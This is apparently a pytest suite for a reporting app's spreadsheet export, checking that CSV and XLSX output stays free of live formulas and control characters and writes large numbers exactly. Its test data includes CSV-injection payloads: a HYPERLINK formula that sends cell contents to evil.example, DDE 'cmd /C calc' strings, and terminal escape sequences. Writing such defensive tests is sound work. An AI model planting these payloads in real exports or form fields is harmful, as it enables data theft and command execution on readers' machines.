"""What exported cells hold: never a live formula, never a control character, range targets as
their text, and every stored number exactly (Excel numbers only where Excel keeps them exactly)."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from domain import commands as c
from domain.numbers import parse_number
from kinerja_flow import export
from kinerja_flow.application import KinerjaApp
from kinerja_flow.documents import load_document
from kinerja_flow.export import cells
from kinerja_flow.export.model import Column, Export, Table
from kinerja_flow.printable import visible
from kinerja_flow.settings import Settings, open_views
from projections.runner import Runner
from tests.conftest import TODAY
from tests.io.conftest import CODE

README = Path(__file__).parents[2] / "README.md"

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)",
            "\t=1+1", " =1+1", "\uff1d1+1", "+", "@", "=", "#N/A", "-2+3+cmd|' /C calc'!A0"]
CONTROLS = "a\x1b]8;;http://evil\x1b\\x\x1b]8;;\x1b\\\x1b[2J b\x07c\x00d\x9be\u202ef\u2066g\rh\ti\nj"


def csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=";"))


def formulas_in(path: Path) -> list[str]:
    """Every <f> (formula) element in the workbook's sheets."""
    with zipfile.ZipFile(path) as book:
        return [match for name in book.namelist() if name.startswith("xl/worksheets/")
                for match in re.findall(r"<f[ >].*?</f>|<f/>", book.read(name).decode("utf-8"))]


def table_of(texts: list[str]) -> Export:
    columns = [Column("Teks"), Column("Angka", "number"), Column("Persen", "percent")]
    rows: list[list[object]] = [[text, Decimal("-7.5"), "-"] for text in texts]
    return Export([Table("Uji", columns, rows, titles=["=JUDUL()", f"INSTANSI {CONTROLS}"])], {})


# ----------------------------------------------------------------- formulas (OWASP CSV injection)

def test_text_that_looks_like_a_formula_is_escaped_in_csv(tmp_path: Path) -> None:
    path = tmp_path / "uji.csv"
    export.write(table_of([*FORMULAS, "-7,5", "-", "biasa"]), path, "csv")
    rows = csv_rows(path)
    assert rows[0] == ["'=JUDUL()"]
    body = rows[3:]
    expected = {
        "=1+1": "'=1+1", "+1+1": "'+1+1", "-1+1": "'-1+1", "@SUM(A1:A9)": "'@SUM(A1:A9)",
        "\t=1+1": "'\t=1+1", " =1+1": "' =1+1", "\uff1d1+1": "'\uff1d1+1", "+": "'+", "@": "'@",
        "=": "'=", "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
        "-7,5": "-7,5", "-": "-", "biasa": "biasa", "#N/A": "#N/A",
    }
    written = {text: row[0] for text, row in zip([*FORMULAS, "-7,5", "-", "biasa"], body)}
    for text, cell in expected.items():
        assert written[text] == cell, text
    assert written[FORMULAS[0]] == "'" + FORMULAS[0]
    # numbers written by us stay numbers, in Indonesian notation; the undefined mark stays a dash
    assert {(row[1], row[2]) for row in body} == {("-7,5", "-")}


def test_xlsx_text_is_a_string_never_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "uji.xlsx"
    export.write(table_of(FORMULAS), path, "xlsx")
    assert formulas_in(path) == []
    sheet = load_workbook(path, data_only=False)["Uji"]
    assert sheet["A1"].value == "=JUDUL()" and sheet["A1"].data_type == "s"
    cells_ = [row[0] for row in sheet.iter_rows(min_row=5)]
    assert [c.value for c in cells_] == FORMULAS
    assert all(c.data_type == "s" for c in cells_)
    # editing such a cell in Excel keeps it text: the quote prefix is set where it matters
    assert [c.quotePrefix for c in cells_] == [cells.is_risky(t) for t in FORMULAS]
    numbers = [row[1] for row in sheet.iter_rows(min_row=5)]
    assert {(c.value, c.data_type) for c in numbers} == {(-7.5, "n")}


@pytest.fixture
def hostile(in_force: KinerjaApp, db_url: str) -> KinerjaApp:
    """Formulas where users type free text: a note, a correction reason, the actor's name."""
    in_force.handle(c.RecordRealisation(code=CODE, indicator="S1.2", month=9, value=Decimal("0.32"), note='=HYPERLINK("http://evil","y")'))
    in_force.handle(c.CorrectRealisation(code=CODE, kind="indikator", item="S1.2", month=9, reason="@SUM(1+1)*cmd|' /C calc'!A0", value=Decimal("0.31"), note="-1+1"))
    other = KinerjaApp(Settings(db=db_url, actor="+1+1 =HYPERLINK(\"x\")"), clock=lambda: TODAY)
    try:
        other.handle(c.RecordBudgetRealisation(code=CODE, programme="P01", month=3, amount=Decimal("30515960"), note="=1+1"))
    finally:
        other.close()
    return in_force


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_no_live_formula_in_the_audit_and_realisation_exports(hostile: KinerjaApp, tmp_path: Path,
                                                              format: export.Format) -> None:
    runner = Runner(open_views(hostile.settings))
    runner.catch_up()
    try:
        exports = {"audit": export.audit(runner.store, CODE),
                   "realisasi": export.realisations(runner.store, [CODE])}
    finally:
        runner.store.close()
    for name, result in exports.items():
        path = tmp_path / f"{name}.{format}"
        export.write(result, path, format)
        if format == "xlsx":
            assert formulas_in(path) == []
            texts = [c.value for row in load_workbook(path).active.iter_rows() for c in row
                     if isinstance(c.value, str)]
        else:
            texts = [cell for row in csv_rows(path) for cell in row]
            assert all(not cells.is_risky(text) for text in texts), texts
        marker = {"audit": "HYPERLINK", "realisasi": "=1+1"}[name]
        assert any(marker in text for text in texts)  # the text is there, only inert
    if format == "csv":
        audit = [cell for row in csv_rows(tmp_path / "audit.csv") for cell in row]
        assert "'+1+1 =HYPERLINK(\"x\")" in audit and "'@SUM(1+1)*cmd|' /C calc'!A0" in audit


# ----------------------------------------------------------------- control characters

@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_control_characters_are_made_visible(tmp_path: Path, format: export.Format) -> None:
    """Excel refuses most C0 characters (IllegalCharacterError); no reader should get ESC or bidi."""
    path = tmp_path / f"uji.{format}"
    export.write(table_of([CONTROLS]), path, format)
    shown = visible(CONTROLS)
    assert shown.startswith("a\\x1b]8;;http://evil\\x1b\\x\\x1b]8;;\\x1b\\\\x1b[2J b\\x07c\\x00d\\x9be\\u202ef")
    assert "\t" in shown and "\n" in shown and "\\x0d" in shown
    if format == "csv":
        rows = csv_rows(path)
        assert rows[1] == [f"INSTANSI {shown}"] and rows[3][0] == shown
        raw = path.read_text(encoding="utf-8-sig")
    else:
        sheet = load_workbook(path)["Uji"]
        assert sheet["A2"].value == f"INSTANSI {shown}" and sheet["A5"].value == shown
        with zipfile.ZipFile(path) as book:
            raw = "".join(book.read(n).decode("utf-8") for n in book.namelist() if n.endswith(".xml"))
    assert not re.search("[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", raw)


# ----------------------------------------------------------------- range targets (the README's document)

def readme_document(folder: Path) -> Path:
    """The agreement document of README.md ("The agreement document"), as a file."""
    text = README.read_text(encoding="utf-8")
    section = text[text.index("## The agreement document"):]
    block = section[section.index("```yaml\n") + len("```yaml\n"):]
    path = folder / "readme.yaml"
    path.write_text(block[:block.index("```")], encoding="utf-8")
    return path


def test_range_targets_of_the_readme_document_export_in_every_format(app: KinerjaApp, tmp_path: Path) -> None:
    """`export quarterly|measurement` raised decimal.InvalidOperation on the README's own example."""
    document = load_document(readme_document(tmp_path))
    assert "80-90" in [i.target for i in document.indicators()]
    app.handle(c.CreateAgreement(document=document, effective=date(2020, 1, 6)))
    runner = Runner(open_views(app.settings))
    runner.catch_up()
    try:
        quarterly = export.quarterly(runner.store, CODE)
        measurement = export.measurement(runner.store, 2020)
    finally:
        runner.store.close()

    for name, result, column in (("tw", quarterly, "Target Kinerja Tahunan"), ("pk", measurement, "Target")):
        for format in export.FORMATS:
            export.write(result, tmp_path / f"{name}.{format}", format)
        rows = csv_rows(tmp_path / f"{name}.csv")
        header = next(r for r in rows if column in r)
        at = header.index(column)
        s21 = next(r for r in rows if "Persentase penduduk miskin" in r)
        assert s21[at] == "80–90"
        assert next(r for r in rows if "Persentase PMKS yang tertangani" in r)[at] == "4,6"

        sheet = load_workbook(tmp_path / f"{name}.xlsx").active
        cells_ = {c.value: c for row in sheet.iter_rows() for c in row if c.value is not None}
        assert cells_["80–90"].data_type == "s" and cells_["80–90"].column == at + 1
        assert formulas_in(tmp_path / f"{name}.xlsx") == []

        data = json.loads((tmp_path / f"{name}.json").read_text(encoding="utf-8"))
        assert "80-90" in json.dumps(data)  # JSON keeps the stored value itself


# ----------------------------------------------------------------- large and precise numbers

HUGE = [Decimal("9" * 2000), Decimal("1E+400"), Decimal("-1E-40"), Decimal("0.1234567890123456789"),
        Decimal("123456789012345.6"), Decimal("9007199254740993"), Decimal("1" + "0" * 20),
        Decimal("12345678901234.5"), Decimal("-0.000001")]


def numbers_table(values: list[Decimal]) -> Export:
    columns = [Column("Nilai", "number"), Column("Rupiah", "rupiah"), Column("Persen", "percent")]
    return Export([Table("Angka", columns, [[v, v, v] for v in values])], {"nilai": values})


def test_large_and_precise_numbers_are_exact_in_every_format(tmp_path: Path) -> None:
    """A 2.000-digit value once crashed the XLSX export with OverflowError, leaving a corrupt file."""
    for kind in export.FORMATS:
        export.write(numbers_table(HUGE), tmp_path / f"angka.{kind}", kind)

    rows = csv_rows(tmp_path / "angka.csv")[1:]
    assert [parse_number(r[0]) for r in rows] == HUGE
    assert rows[0][0] == format(Decimal("9" * 2000), ",f").replace(",", ".")
    assert rows[2][0] == "-0," + "0" * 39 + "1"

    sheet = load_workbook(tmp_path / "angka.xlsx")["Angka"]
    written = [row[0] for row in sheet.iter_rows(min_row=2)]
    as_numbers = {index for index, c in enumerate(written) if c.data_type == "n"}
    assert as_numbers == {2, 6, 7, 8}  # at most 15 significant digits: Excel keeps them exactly
    for index, cell in enumerate(written):
        if index in as_numbers:
            assert Decimal(repr(cell.value)) == HUGE[index]
        else:
            assert cell.data_type == "s" and parse_number(cell.value) == HUGE[index]

    data = json.loads((tmp_path / "angka.json").read_text(encoding="utf-8"))
    assert [Decimal(v) for v in data["nilai"]] == HUGE


finite_decimals = st.decimals(allow_nan=False, allow_infinity=False)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(values=st.lists(finite_decimals, min_size=1, max_size=20))
def test_every_finite_number_is_written_exactly(tmp_path: Path, values: list[Decimal]) -> None:
    for format in ("csv", "xlsx"):
        export.write(numbers_table(values), tmp_path / f"angka.{format}", format, force=True)
    rows = csv_rows(tmp_path / "angka.csv")[1:]
    assert [parse_number(r[0]) for r in rows] == values
    for cell, value in zip((row[0] for row in load_workbook(tmp_path / "angka.xlsx").active.iter_rows(min_row=2)),
                           values):
        exact = Decimal(repr(cell.value)) if cell.data_type == "n" else parse_number(cell.value)
        assert exact == value


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(st.text(max_size=30), min_size=1, max_size=10))
def test_any_text_is_inert_in_csv_and_xlsx(tmp_path: Path, texts: list[str]) -> None:
    table = Export([Table("Teks", [Column("Teks")], [[t] for t in texts])], {})
    for format in ("csv", "xlsx"):
        export.write(table, tmp_path / f"teks.{format}", format, force=True)
    rows = csv_rows(tmp_path / "teks.csv")[1:]
    expected = [visible(t) for t in texts if t]
    assert [r[0] for r in rows if r and r[0]] == [cells.csv_text(t) for t in expected]
    assert all(not cells.is_risky(r[0]) for r in rows if r)
    assert formulas_in(tmp_path / "teks.xlsx") == []
    sheet = load_workbook(tmp_path / "teks.xlsx").active
    assert [c.value for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None] == expected
